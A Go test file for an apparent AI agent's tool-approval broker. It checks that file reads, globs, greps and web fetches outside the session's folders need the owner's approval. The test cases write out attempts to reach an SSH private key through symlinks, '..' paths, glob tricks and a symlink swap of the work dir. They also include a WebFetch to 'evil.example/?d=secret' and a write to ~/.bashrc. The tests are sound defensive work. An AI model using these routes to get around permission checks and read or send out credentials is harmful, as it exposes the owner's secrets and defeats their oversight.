package approvals

import (
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"testing"

	"github.com/untether/untether/scope"
)

// pathWorld is a project, a chat's upload folder, another chat's, an
// owner-listed folder, the bot's own files and a secret in a temp HOME.
type pathWorld struct {
	proj, uploads, mine, theirs, extra, secret, state, config string
}

func newPathWorld(t *testing.T) pathWorld {
	t.Helper()
	base, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	home := filepath.Join(base, "home")
	t.Setenv("HOME", home)
	w := pathWorld{
		proj:    filepath.Join(base, "proj"),
		uploads: filepath.Join(base, "uploads"),
		extra:   filepath.Join(base, "docs"),
		secret:  filepath.Join(home, ".ssh", "id_ed25519"),
		state:   filepath.Join(base, "proj", "untether.db"), // the state file inside the project
		config:  filepath.Join(home, ".untether", "untether.toml"),
	}
	w.mine, w.theirs = filepath.Join(w.uploads, "100"), filepath.Join(w.uploads, "200")
	for _, f := range []string{w.secret, w.state, w.config, filepath.Join(w.proj, "main.go"),
		filepath.Join(w.mine, "a.jpg"), filepath.Join(w.theirs, "b.jpg"), filepath.Join(w.extra, "x.md")} {
		if err := os.MkdirAll(filepath.Dir(f), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(f, []byte("x"), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Symlink(w.secret, filepath.Join(w.proj, "key")); err != nil {
		t.Fatal(err)
	}
	return w
}

func (w pathWorld) config_(allow []string) Config {
	return Config{AllowList: allow, Paths: scope.Rule{Roots: []string{w.extra}, Forbidden: []string{w.state, w.config, w.uploads}}}
}

func (w pathWorld) req(tool string, input map[string]any) Request {
	b, _ := json.Marshal(input)
	r := toolReq("1", tool, string(b))
	r.WorkDir, r.UploadDir = w.proj, w.mine
	return r
}

// TestPathToolsAskOutside: the default list allows the read-only tools only
// on paths inside the session's scope, never WebFetch; anything else is
// shown with the resolved paths that are outside. Before the path rule,
// Read of ~/.ssh/id_ed25519 and every WebFetch were approved at once.
func TestPathToolsAskOutside(t *testing.T) {
	w := newPathWorld(t)
	def := DefaultAutoApprove()
	type m = map[string]any
	tests := []struct {
		name    string
		allow   []string
		tool    string
		input   m
		auto    bool
		outside []string
	}{
		{"read in the project", def, "Read", m{"file_path": filepath.Join(w.proj, "main.go")}, true, nil},
		{"read relative", def, "Read", m{"file_path": "main.go"}, true, nil},
		{"read a new file in the project", def, "Read", m{"file_path": filepath.Join(w.proj, "new", "f.go")}, true, nil},
		{"read the secret", def, "Read", m{"file_path": w.secret}, false, []string{w.secret}},
		{"read the secret by ~", def, "Read", m{"file_path": "~/.ssh/id_ed25519"}, false, []string{w.secret}},
		{"read through a link out", def, "Read", m{"file_path": "key"}, false, []string{w.secret}},
		{"read with .. out", def, "Read", m{"file_path": "../home/.ssh/id_ed25519"}, false, []string{w.secret}},
		{"read the state file in the project", def, "Read", m{"file_path": w.state}, false, []string{w.state}},
		{"read the config file", def, "Read", m{"file_path": w.config}, false, []string{w.config}},
		{"read my upload", def, "Read", m{"file_path": filepath.Join(w.mine, "a.jpg")}, true, nil},
		{"read another chat's upload", def, "Read", m{"file_path": filepath.Join(w.theirs, "b.jpg")}, false, []string{filepath.Join(w.theirs, "b.jpg")}},
		{"read in an owner-listed dir", def, "Read", m{"file_path": filepath.Join(w.extra, "x.md")}, true, nil},
		{"read without a path", def, "Read", m{}, false, nil},
		{"read a BOM-prefixed path", def, "Read", m{"file_path": "\ufeff" + w.secret}, false, []string{"\ufeff" + w.secret}},
		{"read with a number for a path", def, "Read", m{"file_path": 7}, false, nil},
		{"notebook read outside", def, "NotebookRead", m{"notebook_path": w.secret}, false, []string{w.secret}},
		{"ls inside", def, "LS", m{"path": w.proj}, true, nil},
		{"ls outside", def, "LS", m{"path": filepath.Dir(w.secret)}, false, []string{filepath.Dir(w.secret)}},
		{"ls without a path", def, "LS", m{}, false, nil},
		{"glob without a path", def, "Glob", m{"pattern": "**/*.go"}, true, nil},
		{"glob path outside", def, "Glob", m{"pattern": "*", "path": filepath.Dir(w.secret)}, false, []string{filepath.Dir(w.secret)}},
		{"glob absolute pattern outside", def, "Glob", m{"pattern": filepath.Dir(w.secret) + "/*"}, false, []string{filepath.Dir(w.secret)}},
		{"glob pattern climbing out", def, "Glob", m{"pattern": "../home/.ssh/*"}, false, []string{filepath.Dir(w.secret)}},
		{"glob pattern climbing after a wildcard", def, "Glob", m{"pattern": "*/../../home/*"}, false, nil},
		{"glob pattern inside", def, "Glob", m{"pattern": "src/**/*.go", "path": w.proj}, true, nil},
		{"glob pattern with brackets for ..", def, "Glob", m{"pattern": "[.][.]/home/.ssh/*"}, false, nil},
		{"glob pattern with an extglob for ..", def, "Glob", m{"pattern": "@(.)@(.)/home/.ssh/*"}, false, nil},
		{"glob pattern with braces for ..", def, "Glob", m{"pattern": "{.,x}{.,y}/home/.ssh/*"}, false, nil},
		{"glob pattern with braces for types", def, "Glob", m{"pattern": "**/*.{go,md}"}, true, nil},
		{"grep without a path", def, "Grep", m{"pattern": "TODO"}, true, nil},
		{"grep outside", def, "Grep", m{"pattern": "BEGIN", "path": filepath.Dir(w.secret)}, false, []string{filepath.Dir(w.secret)}},
		{"webfetch by default", def, "WebFetch", m{"url": "https://evil.example/?d=secret"}, false, nil},
		{"webfetch listed by the owner", append(def, "WebFetch"), "WebFetch", m{"url": "https://example.com"}, true, nil},
		{"write listed by the owner, inside", []string{"Write"}, "Write", m{"file_path": "out.txt", "content": "x"}, true, nil},
		{"write listed by the owner, outside", []string{"Write"}, "Write", m{"file_path": "~/.bashrc", "content": "x"}, false, []string{filepath.Join(filepath.Dir(filepath.Dir(w.secret)), ".bashrc")}},
		{"read outside, not listed: still says outside", nil, "Read", m{"file_path": w.secret}, false, []string{w.secret}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			b, _ := newTestBroker(w.config_(tc.allow))
			r := &fakeResponder{}
			sub := mustSubmit(t, b, w.req(tc.tool, tc.input), r)
			if sub.Auto() != tc.auto {
				t.Fatalf("auto = %v (reason %q), want %v", sub.Auto(), sub.Reason, tc.auto)
			}
			if tc.auto {
				if c := r.only(t); !c.allow {
					t.Fatalf("auto answer = %+v, want allow", c)
				}
				return
			}
			if len(r.all()) != 0 {
				t.Fatalf("a prompted request was answered: %+v", r.all())
			}
			if !slices.Equal(sub.Prompt.Outside, tc.outside) {
				t.Errorf("Outside = %q, want %q", sub.Prompt.Outside, tc.outside)
			}
		})
	}
}

// Skip-permissions and bypass mode are the owner's choice to allow
// everything: the path rule does not override them.
func TestPathRuleYieldsToSkipAndBypass(t *testing.T) {
	w := newPathWorld(t)
	req := w.req("Read", map[string]any{"file_path": w.secret})
	cfg := w.config_(nil)
	cfg.SkipPermissions = true
	b, _ := newTestBroker(cfg)
	if sub := mustSubmit(t, b, req, &fakeResponder{}); !sub.Auto() {
		t.Error("skip permissions asked")
	}
	b, _ = newTestBroker(w.config_(nil))
	if sub := mustSubmit(t, b, withMode(req, "bypassPermissions", ""), &fakeResponder{}); !sub.Auto() {
		t.Error("bypass mode asked")
	}
}

func TestDefaultAutoApproveLeavesWebFetchOut(t *testing.T) {
	if slices.Contains(DefaultAutoApprove(), "WebFetch") {
		t.Error("WebFetch is approved by default")
	}
	for _, tool := range []string{"Read", "Glob", "Grep", "LS", "NotebookRead"} {
		if !IsPathTool(tool) {
			t.Errorf("%s is not limited to the session's paths", tool)
		}
	}
}

// TestPathRuleKeepsTheStartedDir: the working directory is the one the
// process started in. Replaced by a link to $HOME while the process runs
// there (one approved "mv proj proj.old && ln -s ~ proj"), it holds
// nothing: the key in $HOME is asked, by absolute and by relative path.
func TestPathRuleKeepsTheStartedDir(t *testing.T) {
	w := newPathWorld(t)
	b, _ := newTestBroker(w.config_(DefaultAutoApprove()))
	home := filepath.Dir(filepath.Dir(w.secret))
	if err := os.Rename(w.proj, w.proj+".old"); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(home, w.proj); err != nil {
		t.Fatal(err)
	}
	for i, p := range []string{w.secret, ".ssh/id_ed25519", filepath.Join(w.proj, ".ssh", "id_ed25519")} {
		req := w.req("Read", map[string]any{"file_path": p})
		req.RequestID = string(rune('a' + i))
		if sub := mustSubmit(t, b, req, &fakeResponder{}); sub.Auto() {
			t.Errorf("Read %s approved after the work dir became a link to $HOME", p)
		}
	}
}
